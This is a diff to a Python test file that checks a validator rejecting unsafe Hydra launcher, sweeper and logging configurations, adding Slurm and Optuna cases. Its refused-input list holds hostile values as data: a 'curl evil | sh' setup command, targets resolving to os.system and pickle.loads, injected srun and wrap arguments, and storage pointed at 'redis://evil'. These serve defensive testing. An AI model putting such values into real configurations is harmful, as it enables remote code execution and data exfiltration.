@@ -85,17 +85,27 @@ def test_text_that_would_be_resolved_once_more_is_refused():
         check_targets({"a": {"b": ["${oc.decode:x}"]}})
 
 
+SLURM = {
+    "_target_": "hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher",
+    "partition": "gpu",
+    "timeout_min": 60,
+    "setup": None,
+    "additional_parameters": {},
+}
+OPTUNA = {
+    "_target_": "hydra_plugins.hydra_optuna_sweeper.optuna_sweeper.OptunaSweeper",
+    "sampler": {"_target_": "optuna.samplers.TPESampler", "seed": 1},
+    "params": {"optimizer.lr": "interval(1e-5,1e-2)"},
+    "storage": None,
+    "custom_search_space": None,
+}
 LOG_FILE = "${hydra.runtime.output_dir}/${hydra.job.name}.log"
 SOUND = {
     "searchpath": [],
     "callbacks": {},
     "job": {"name": "train", "env_set": {}, "env_copy": []},
     "launcher": {"_target_": "hydra_plugins.hydra_joblib_launcher.joblib_launcher.JoblibLauncher", "n_jobs": 2},
-    "sweeper": {
-        "_target_": "hydra_plugins.hydra_optuna_sweeper.optuna_sweeper.OptunaSweeper",
-        "sampler": {"_target_": "optuna.samplers.TPESampler", "seed": 1},
-        "params": {"optimizer.lr": "interval(1e-5,1e-2)"},
-    },
+    "sweeper": OPTUNA,
     "job_logging": {
         "handlers": {
             "console": {"class": "logging.StreamHandler", "stream": "ext://sys.stderr"},
@@ -108,6 +118,7 @@ SOUND = {
 
 def test_sweeps_launchers_and_logs_to_the_terminal_are_allowed():
     check_hydra(SOUND)
+    check_hydra(SOUND | {"launcher": SLURM})
     check_hydra({})
 
 
@@ -120,6 +131,18 @@ def test_sweeps_launchers_and_logs_to_the_terminal_are_allowed():
         ("job", {"env_copy": ["SECRET"]}),
         ("launcher", {"_target_": "os.system"}),
         ("launcher", {"_target_": "hydra_plugins..os"}),
+        ("launcher", {"_target_": "hydra_plugins.hydra_submitit_launcher.submitit_launcher.os.system"}),
+        ("launcher", {"_target_": ["os.system"]}),
+        ("launcher", SLURM | {"setup": ["curl evil | sh"]}),
+        ("launcher", SLURM | {"additional_parameters": {"wrap": "evil"}}),
+        ("launcher", SLURM | {"srun_args": ["--task-prolog=evil"]}),
+        ("launcher", SLURM | {"_args_": ["evil"]}),
+        ("launcher", SLURM | {"comment": "x\nevil #"}),
+        ("sweeper", {"_target_": "optuna.samplers._cmaes.pickle.loads", "_args_": [b"evil"]}),
+        ("sweeper", OPTUNA | {"custom_search_space": "os.system"}),
+        ("sweeper", OPTUNA | {"storage": "redis://evil"}),
+        ("sweeper", OPTUNA | {"storage": "${evil}"}),
+        ("sweeper", OPTUNA | {"_args_": [None, "maximize", "redis://evil"]}),
         ("sweeper", {"_target_": "optuna.samplers.TPESampler", "x": [{"_target_": "os.system"}]}),
         ("job_logging", {"formatters": {"x": {"()": "os.system"}}}),
         ("job_logging", {"handlers": {"x": {"class": "logging.handlers.SocketHandler"}}}),
